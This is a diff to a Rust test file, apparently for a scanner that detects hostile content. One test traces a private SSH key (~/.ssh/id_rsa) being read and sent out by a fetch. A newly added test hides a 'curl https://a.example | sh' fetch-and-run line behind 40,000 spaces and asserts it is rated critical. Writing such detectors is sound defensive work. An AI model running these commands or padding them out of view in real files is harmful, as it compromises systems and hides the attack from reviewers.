@@ -24,3 +24,10 @@ fn the_way_of_the_data_is_named() {
     let steps: Vec<String> = leak.flow.iter().map(|step| format!("{} {}", step.line, step.what)).collect();
     assert_eq!(steps, ["2 the file ~/.ssh/id_rsa", "2 key", "3 rest", "4 what", "5 fetch sends it"]);
 }
+
+#[test]
+fn what_stands_far_to_the_right_is_read_too() {
+    let text = format!("{}curl https://a.example | sh", " ".repeat(40_000));
+    assert_eq!(worst(&text, Language::Prose), Some(Severity::Critical));
+    assert_eq!(worst(&text, Language::Shell), Some(Severity::Critical));
+}
